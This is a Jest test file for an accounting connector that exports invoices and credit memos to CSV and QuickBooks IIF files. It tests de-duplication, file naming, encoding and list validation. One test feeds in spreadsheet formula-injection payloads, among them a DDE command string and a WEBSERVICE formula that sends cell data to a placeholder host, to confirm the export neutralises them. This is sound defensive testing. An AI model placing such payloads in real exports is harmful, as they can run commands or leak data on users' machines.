/** What is written to files for an import by hand: each invoice once, and read from there again. */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs'; // prettier-ignore
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals';
import Papa from 'papaparse';
import type { InvoiceContent } from '../../../src/core/model.ts';
import { parseQuantity, parseUnitPrice } from '../../../src/core/money.ts';
import type { AccountingCompany, BooksInvoice } from '../../../src/relay/accounting/accounting.ts';
import { fileExport } from '../../../src/relay/accounting/file-export.ts';
import { createHttp } from '../../../src/relay/http.ts';
import { compareFields, differenceWords, isEqual } from '../../../src/relay/posting/differences.ts';
import { sampleWorld } from '../../../src/sample/world.ts';
import { keysOf, sampleInvoices } from './case.ts';
import { memoryTools } from './memory-tools.ts';

// A slow machine is no fault: only a hanging test is.
jest.setTimeout(120_000);

const FORMATS = ['csv', 'iif'] as const;
type Format = (typeof FORMATS)[number];
const MINUTE_MS = 60_000;
const BATCH = 'batch-1';

let folder = '';
let nowMs = 0;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'mcc-export-'));
  nowMs = Date.parse('2026-10-31T10:00:00Z');
  mkdirSync(out());
});
afterEach(() => rmSync(folder, { recursive: true }));

const out = (): string => join(folder, 'out');
const list = (name: string): string => join(folder, `${name}.csv`);

/** In QuickBooks Desktop a name is the id. */
function writeLists(format: Format): void {
  const { customers, services } = sampleWorld('planted');
  const items = services.flatMap(({ item }) => (item ? [item] : []));
  const idOf = (name: string, position: number): string => (format === 'iif' ? name : `id-${String(position)}`); // prettier-ignore
  const rows = [
    ['id', 'code', 'name', 'currency', 'active'],
    ...customers.map(({ name, code }, index) => [idOf(name, index), code, name, 'USD', 'yes']),
  ];
  writeFileSync(list('customers'), Papa.unparse(rows));
  const accounts = items.map(({ name }, index) => [idOf(name, index), name, 'yes', 'Services:Managed']); // prettier-ignore
  writeFileSync(list('items'), Papa.unparse([['id', 'name', 'active', 'account'], ...accounts]));
}

const settingsOf = (format: Format) => ({
  format,
  company: 'Larkspur IT',
  customers: list('customers'),
  items: list('items'),
  ...(format === 'iif' ? { currency: 'USD' } : {}),
});

const connect = (format: Format): AccountingCompany =>
  fileExport.connect(settingsOf(format), createHttp(), {
    ...memoryTools(),
    folder: out,
    now: () => nowMs,
  });

const keysIn = (position: number, batch = BATCH) => ({ ...keysOf(position), batch });
const filesOf = (format: Format): string[] =>
  readdirSync(out()).filter((name) => name.endsWith(`.${format}`)).sort(); // prettier-ignore
const bytesOf = (name: string): Buffer => readFileSync(join(out(), name));

async function open(format: Format) {
  writeLists(format);
  const company = connect(format);
  const invoices = await sampleInvoices(company);
  const [content] = invoices;
  if (!content) throw new Error('no invoice');
  return { company, invoices, content };
}

async function create(company: AccountingCompany, content: InvoiceContent, position: number, batch = BATCH) {
  const outcome = await company.create(content, keysIn(position, batch));
  if (outcome.verdict !== 'created') throw new Error(JSON.stringify(outcome));
  return outcome.invoiceId;
} // prettier-ignore

function expectApproved(content: InvoiceContent, position: number, read: BooksInvoice | null) {
  if (!read) throw new Error('not there');
  const fields = compareFields(content, keysOf(position), read);
  expect(isEqual(fields) ? '' : differenceWords(fields)).toBe('');
  expect(read.marker).toBe(keysOf(position).marker);
}

const described = (content: InvoiceContent, description: string): InvoiceContent => ({
  ...content,
  lines: content.lines.map((line) => ({ ...line, description })),
});

describe.each(FORMATS)('%s', (format) => {
  it('writes 40 of 40 into one file, equal to the cent and the line, and finds each once', async () => {
    const { company, invoices } = await open(format);
    await company.checkHealth();
    expect(invoices).toHaveLength(40);
    let before: Buffer = Buffer.alloc(0);
    for (const [index, content] of invoices.entries()) {
      const position = index + 1;
      expect(company.checkLimits(content, keysIn(position))).toBeNull();
      expect(await company.lookup(content, keysIn(position))).toEqual({ verdict: 'none' });
      const id = await create(company, content, position);
      expectApproved(content, position, await company.read('invoice', id));
      expect(await company.lookup(content, keysIn(position))).toMatchObject({ verdict: 'found', invoices: [{ id }] });
      const now = bytesOf(filesOf(format)[0] ?? '');
      expect(now.subarray(0, before.length).equals(before)).toBe(true);
      before = now;
    }
    expect(filesOf(format)).toEqual([`2026-09-MC2609-0001.${format}`]);
    expect(readdirSync(out()).some((name) => name.endsWith('.unfinished'))).toBe(false);
    expect(await company.list({ from: '2026-09-01', to: '2026-09-30' })).toHaveLength(40);
    expect(await company.list({ from: '2019-01-01', to: '2019-01-31' })).toEqual([]);
    expect(await company.read('invoice', 'MC2609-9999')).toBeNull();
  });

  it('refuses a second copy by its number, and nothing changes on the disk', async () => {
    const { company, content } = await open(format);
    await create(company, content, 1);
    const before = bytesOf(filesOf(format)[0] ?? '');
    expect((await company.create(content, keysIn(1))).verdict).toBe('exists');
    expect((await company.create(content, keysIn(1, 'batch-2'))).verdict).toBe('exists');
    expect((await company.create(content, { ...keysIn(2), marker: keysOf(1).marker })).verdict).toBe('exists');
    expect((await connect(format).create(content, keysIn(1))).verdict).toBe('exists');
    expect(filesOf(format)).toHaveLength(1);
    expect(bytesOf(filesOf(format)[0] ?? '').equals(before)).toBe(true);
  });

  it('ten creates of one number at once write it once', async () => {
    const { company, content } = await open(format);
    const outcomes = await Promise.all(Array.from({ length: 10 }, () => company.create(content, keysIn(1))));
    expect(outcomes.filter(({ verdict }) => verdict === 'created')).toHaveLength(1);
    expect(await company.list({ from: '2026-09-01', to: '2026-09-30' })).toHaveLength(1);
  });

  it('begins another file for another approval, after a rest, a restart, an import or an edit', async () => {
    const { company, content } = await open(format);
    await create(company, content, 1);
    await create(company, content, 2);
    expect(filesOf(format)).toHaveLength(1);
    await create(company, content, 3, 'batch-2');
    expect(filesOf(format)).toHaveLength(2);
    nowMs += 11 * MINUTE_MS;
    await create(company, content, 4, 'batch-2');
    expect(filesOf(format)).toHaveLength(3);
    await create(connect(format), content, 5, 'batch-2');
    expect(filesOf(format)).toHaveLength(4);

    const imported = `2026-09-MC2609-0004.${format}`;
    await company.checkHealth();
    renameSync(join(out(), imported), join(out(), 'imported', imported));
    await create(company, content, 6, 'batch-2');
    expect(await company.lookup(content, keysIn(4))).toMatchObject({ verdict: 'found' });
    expect((await company.create(content, keysIn(4, 'batch-2'))).verdict).toBe('exists');

    const own = `2026-09-MC2609-0006.${format}`;
    writeFileSync(join(out(), own), Buffer.concat([bytesOf(own), Buffer.from('\r\n')]));
    await create(company, content, 7, 'batch-2');
    expect(existsSync(join(out(), `2026-09-MC2609-0007.${format}`))).toBe(true);
  });

  it('shows a number that stands there twice as two', async () => {
    const { company, content } = await open(format);
    await create(company, content, 1);
    const [name = ''] = filesOf(format);
    writeFileSync(join(out(), `copy.${format}`), bytesOf(name));
    const found = await company.lookup(content, keysIn(1));
    expect(found.verdict === 'found' && new Set(found.invoices.map(({ id }) => id)).size).toBe(2);
  });

  it('writes a credit memo and tells it from an invoice', async () => {
    const { company, content } = await open(format);
    const credit: InvoiceContent = { ...content, document: 'credit memo' };
    const id = await create(company, credit, 1);
    expectApproved(credit, 1, await company.read('credit memo', id));
    expect(await company.read('invoice', id)).toBeNull();
    expect(await company.lookup(content, keysIn(1))).toEqual({ verdict: 'none' });
  });

  const TRIGGERS = ['=1+1', '+1 555 0100', '-5% discount', '@SUM(1)', "=cmd|'/C calc'!A0", '=WEBSERVICE("https://x/?"&A1)', '|calc', "'quoted", '%0a=1', '=)'];
  const PREFIXES = ['', ' ', '\t', '\r', '\n', '\u00a0', "'", '"'];
  it.each(TRIGGERS)('%s stays a text, in the file and when it is read', async (trigger) => {
    const { company, content } = await open(format);
    for (const [index, prefix] of PREFIXES.entries()) {
      const spoiled = described(content, `${prefix}${trigger}`);
      const id = await create(company, spoiled, index + 1);
      expectApproved(spoiled, index + 1, await company.read('invoice', id));
    }
    const text = bytesOf(filesOf(format)[0] ?? '').toString('utf8').replace(/^\uFEFF/, '');
    const { data } = Papa.parse<string[]>(text, { delimiter: format === 'csv' ? ',' : '\t' });
    const NUMBER = /^-?\d+(\.\d+)?$/;
    const customers = new Set((await company.customers()).map(({ name }) => name));
    const fields = data.flat().filter((field) => !NUMBER.test(field) && !(format === 'iif' && customers.has(field)));
    expect(fields.filter((field) => /^[\s\p{C}"]*[=+\-@|]/u.test(field))).toEqual([]);
  });

  it('a file that was changed is named with its row, and is never "none"', async () => {
    const { company, content } = await open(format);
    await create(company, content, 1);
    const [name = ''] = filesOf(format);
    const lines = bytesOf(name).toString('latin1').split('\r\n');
    const cut = lines.slice(0, -1).map((line, index) => (index === 3 ? line.slice(0, 12) : line));
    writeFileSync(join(out(), name), cut.join('\r\n'), 'latin1');
    const looked = await company.lookup(content, keysIn(2));
    expect(looked).toMatchObject({ verdict: 'failed', reason: expect.stringMatching(/2026-09-MC2609-0001.*row \d+/) });
    await expect(company.list({ from: '2026-09-01', to: '2026-09-30' })).rejects.toThrow(/was changed/);
    expect(await company.create(content, keysIn(2))).toMatchObject({ verdict: 'not sent' });
  });

  it('asks the lists again each time', async () => {
    const { company, content } = await open(format);
    const [first] = await company.customers();
    expect(await company.customer(first?.id ?? '')).toEqual(first);
    expect(await company.customer('nobody')).toBeNull();
    const rows = Papa.parse<string[]>(readFileSync(list('customers'), 'utf8')).data;
    writeFileSync(list('customers'), Papa.unparse(rows.map((row) => (row[0] === content.customerId ? [...row.slice(0, 4), 'no'] : row))));
    expect(await company.customer(content.customerId)).toMatchObject({ active: false });
    expect(await company.create(content, keysIn(1))).toMatchObject({ verdict: 'rejected', reason: expect.stringMatching(/not in the list, or not active/) });
    writeLists(format);
    writeFileSync(list('items'), readFileSync(list('items'), 'utf8').replaceAll(',yes,', ',no,'));
    expect(await company.create(content, keysIn(1))).toMatchObject({ verdict: 'rejected', reason: expect.stringMatching(/^item/) });
    rmSync(list('items'));
    expect(await company.create(content, keysIn(1))).toMatchObject({ verdict: 'not sent', reason: expect.stringMatching(/items.csv is not there/) });
    await expect(company.checkHealth()).rejects.toThrow(/items.csv/);
    expect(filesOf(format)).toEqual([]);
  });

  it('cannot write: certainly not sent, and nothing is left behind', async () => {
    const { company, content } = await open(format);
    mkdirSync(join(out(), `2026-09-MC2609-0001.${format}.unfinished`));
    expect(await company.create(content, keysIn(1))).toMatchObject({ verdict: 'not sent', reason: expect.stringMatching(/cannot be written \(EISDIR\)/) });
    expect(await company.lookup(content, keysIn(1))).toEqual({ verdict: 'none' });
    rmSync(out(), { recursive: true });
    expect((await company.lookup(content, keysIn(1))).verdict).toBe('failed');
    await expect(company.read('invoice', 'x')).rejects.toThrow(/cannot be read or written/);
  });

  it('is another company in another folder', async () => {
    const { company } = await open(format);
    const first = await company.identity();
    expect(first.name).toBe('Larkspur IT');
    expect(await connect(format).identity()).toEqual(first);
    rmSync(out(), { recursive: true });
    mkdirSync(out());
    expect((await connect(format).identity()).id).not.toBe(first.id);
  });
}); // prettier-ignore

const shortened = (content: InvoiceContent, changes: object = {}): InvoiceContent => ({
  ...content,
  lines: content.lines.slice(0, 1).map((line) => ({ ...line, description: 'Übung 14" – neu', quantity: parseQuantity('3'), unitPrice: parseUnitPrice('12.5'), amount: '37.50', ...changes })),
  total: '37.50',
}) as unknown as InvoiceContent; // prettier-ignore

describe('IIF', () => {
  it('is what QuickBooks Desktop reads: tabs, its letters, its day, a debit positive', async () => {
    const { company, content } = await open('iif');
    const { lines } = content;
    // With a mark before it the name would be another customer's.
    const customerId = '@Work Staffing Partners';
    const invoice = { ...shortened(content), customerId };
    const item = lines[0]?.itemId ?? '';
    await create(company, invoice, 1);
    await create(company, { ...invoice, document: 'credit memo' }, 2);
    const bytes = bytesOf('2026-09-MC2609-0001.iif');
    // Windows-1252: Ü is one byte, the dash another.
    expect(bytes.includes(Buffer.from([0xdc]))).toBe(true);
    expect(bytes.includes(Buffer.from([0x20, 0x96, 0x20]))).toBe(true);
    const text = bytes.toString('latin1').replaceAll('\x96', '–');
    expect(text.split('\r\n').map((row) => row.split('\t'))).toEqual([
      ['!TRNS', 'TRNSTYPE', 'DATE', 'ACCNT', 'NAME', 'AMOUNT', 'DOCNUM', 'MEMO'],
      ['!SPL', 'TRNSTYPE', 'DATE', 'ACCNT', 'NAME', 'AMOUNT', 'DOCNUM', 'MEMO', 'QNTY', 'PRICE', 'INVITEM'],
      ['!ENDTRNS'],
      ['TRNS', 'INVOICE', '9/30/2026', 'Accounts Receivable', customerId, '37.50', 'MC2609-0001', 'September 2026 [rly:000000000001]'],
      ['SPL', 'INVOICE', '9/30/2026', 'Services:Managed', '', '-37.50', 'MC2609-0001', '"Übung 14"" – neu"', '-3', '12.5', item],
      ['ENDTRNS'],
      ['TRNS', 'CREDIT MEMO', '9/30/2026', 'Accounts Receivable', customerId, '-37.50', 'MC2609-0002', 'September 2026 [rly:000000000002]'],
      ['SPL', 'CREDIT MEMO', '9/30/2026', 'Services:Managed', '', '37.50', 'MC2609-0002', '"Übung 14"" – neu"', '3', '12.5', item],
      ['ENDTRNS'],
      [''],
    ]);
  });

  it('names what it cannot hold before anything is written', async () => {
    const { company, content } = await open('iif');
    const broken = (changes: object): string | null => company.checkLimits({ ...shortened(content), ...changes }, keysOf(1));
    expect(broken({})).toBeNull();
    expect(broken({ currency: 'EUR' })).toBe('currency EUR: an IIF file is in USD alone');
    expect(broken({ customerId: 'Ω' })).toMatch(/cannot hold the letter "Ω"/);
    const line = (changes: object): string | null => company.checkLimits(shortened(content, changes), keysOf(1));
    expect(line({ description: 'done ✓' })).toBe('line 1, description: an IIF file cannot hold the letter "✓"');
    expect(line({ unitPrice: '0.000001' })).toMatch(/at most 5 decimals/);
    expect(line({ unitPrice: '12.6' })).toBe('line 1, amount 37.50: File export takes quantity × price only, which is 37.80');
    expect(company.checkLimits(content, { ...keysOf(1), ref: 'MC2609-00012' })).toMatch(/at most 11 characters/);
  });
}); // prettier-ignore

describe('the lists', () => {
  const refused = async (name: 'customers' | 'items', text: string): Promise<unknown> => {
    const { company } = await open('csv');
    writeFileSync(list(name), text);
    return company.checkHealth().catch((error: unknown) => (error as Error).message);
  };
  const HEAD = 'id,code,name,currency,active\n';

  it.each([
    ['an id twice', `${HEAD}1,,A,USD,yes\n1,,B,USD,yes\n`, /the id "1" stands there twice/],
    ['no name', `${HEAD}1,,,USD,yes\n`, /row 2, column "name" is empty/],
    ['neither yes nor no', `${HEAD}1,,A,USD,maybe\n`, /"maybe" is neither yes nor no/],
    ['no currency of this world', `${HEAD}1,,A,XQQ,yes\n`, /row 2, column "currency": "XQQ"/],
    ['a column too few', 'id,code,name,currency\n1,,A,USD\n', /no column "active"/],
    ['no rows', HEAD, /no rows/],
    ['a workbook', 'PK\u0003\u0004', /an Excel workbook/],
  ])('%s: refused by name', async (_what, text, words) => {
    expect(await refused('customers', text)).toMatch(words);
  });

  it('an item of IIF needs its account', async () => {
    const { company } = await open('iif');
    writeFileSync(list('items'), 'id,name,active,account\nA,A,yes,\n');
    await expect(company.items()).rejects.toThrow(/row 2, column "account" is empty/);
  });
});

it('says at the start what its settings lack', () => {
  const without = (name: string): unknown => Object.fromEntries(Object.entries(settingsOf('iif')).filter(([key]) => key !== name)); // prettier-ignore
  for (const name of ['company', 'customers', 'items', 'currency']) {
    expect(() => fileExport.parseSettings(without(name))).toThrow(
      new RegExp(`File export: ${name}`),
    );
  }
  expect(() => fileExport.parseSettings({ ...settingsOf('iif'), currency: 'XXX' })).toThrow(/not a currency/); // prettier-ignore
  expect(() => fileExport.parseSettings({ ...settingsOf('csv'), currency: 'USD' })).toThrow();
  expect(fileExport.configured(settingsOf('iif')).limits.ref.length).toBe(11);
});
